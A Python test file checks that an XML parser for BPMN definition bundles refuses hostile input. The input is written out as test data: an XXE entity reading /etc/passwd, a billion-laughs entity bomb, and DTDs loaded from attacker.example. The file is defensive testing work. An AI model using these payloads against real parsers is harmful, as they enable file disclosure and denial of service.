"""Hostile XML in a definition bundle is refused with the file, the reason and the line."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from application.engine import safe_xml
from application.engine.safe_xml import parse_xml
from domain.errors import BundleInvalid

LIMIT = 100_000

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<definitions>&x;</definitions>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">\n<a/>'
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>\n<a/>'
)


def problem_of(data: bytes, *, max_bytes: int = LIMIT, name: str = "process.bpmn"):
    with pytest.raises(BundleInvalid) as refused:
        parse_xml(data, filename=name, max_bytes=max_bytes)
    [problem] = refused.value.problems
    assert problem.path == name
    return problem


def test_a_plain_document_parses():
    tree = parse_xml(b"<definitions><process id='p'/></definitions>", filename="a.bpmn", max_bytes=LIMIT)
    assert tree.getroot().find("process").get("id") == "p"


def test_the_example_bundle_parses():
    data = (Path(__file__).resolve().parents[2] / "application/engine/templates/credential-assessment/credential-assessment.bpmn").read_bytes()
    tree = parse_xml(data, filename="credential-assessment.bpmn", max_bytes=LIMIT)
    assert tree.getroot().get("id") == "credential_assessment_definitions"


@pytest.mark.parametrize(
    "data, line",
    [(XXE, 2), (BILLION_LAUGHS, 2), (EXTERNAL_DTD, 2), (PARAMETER_ENTITY, 2)],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_any_document_type_declaration_is_refused(data, line):
    problem = problem_of(data)
    assert problem.message == "document type declarations (DTD/entities) are not allowed"
    assert problem.line == line


def test_a_doctype_in_utf16_is_refused_too():
    data = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    problem = problem_of(data.encode("utf-16"))
    assert "DTD" in problem.message


@pytest.mark.parametrize("data", [XXE, EXTERNAL_DTD, PARAMETER_ENTITY], ids=["xxe", "dtd", "pe"])
def test_the_parsed_doctype_is_refused_when_the_byte_scan_misses_it(monkeypatch, data):
    monkeypatch.setattr(safe_xml, "_DOCTYPE", re.compile(b"(?!)"))  # a scan that never matches
    assert "DTD" in problem_of(data).message


def test_billion_laughs_is_refused_even_when_the_byte_scan_misses_it(monkeypatch):
    monkeypatch.setattr(safe_xml, "_DOCTYPE", re.compile(b"(?!)"))
    message = problem_of(BILLION_LAUGHS).message  # libxml2's amplification cap or our DTD check
    assert "DTD" in message or "amplification" in message


def test_an_oversized_file_is_refused_before_parsing():
    data = b"<a>" + b"x" * 2_000 + b"</a>"
    problem = problem_of(data, max_bytes=1_000)
    assert problem.message == f"file is {len(data)} bytes, limit 1000"


@pytest.mark.parametrize("depth", [201, 300, 5_000])
def test_deep_nesting_is_refused(depth):
    data = b"<a>" * depth + b"</a>" * depth
    assert problem_of(data).message == "elements nested deeper than 200 levels"


def test_nesting_up_to_the_limit_parses():
    data = b"<a>" * 200 + b"</a>" * 200
    assert parse_xml(data, filename="a.bpmn", max_bytes=LIMIT).getroot().tag == "a"


def test_broken_xml_names_the_lxml_reason_and_line():
    problem = problem_of(b"<definitions>\n  <process>\n</definitions>")
    assert problem.message.startswith("not well-formed XML: Opening and ending tag mismatch")
    assert problem.line == 3


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 4,
        b'<?xml version="1.0" encoding="UTF-8"?><a>\xff\xfe\xfa</a>',
        b"",
        b"<a>&undefined;</a>",
        b"\x00\x01\x02garbage",
    ],
    ids=["binary", "bad-utf8", "empty", "undefined-entity", "nul-bytes"],
)
def test_garbage_is_refused_as_not_well_formed(data):
    problem = problem_of(data)
    assert problem.message.startswith("not well-formed XML: ")
    assert problem.line is not None


def test_text_instead_of_bytes_is_a_programming_error():
    with pytest.raises(TypeError):
        parse_xml("<a/>", filename="a.bpmn", max_bytes=LIMIT)  # type: ignore[arg-type]


def test_the_error_reads_well_for_a_person():
    with pytest.raises(BundleInvalid) as refused:
        parse_xml(XXE, filename="process.bpmn", max_bytes=LIMIT)
    assert str(refused.value) == (
        "process.bpmn was refused: process.bpmn line 2: "
        "document type declarations (DTD/entities) are not allowed"
    )
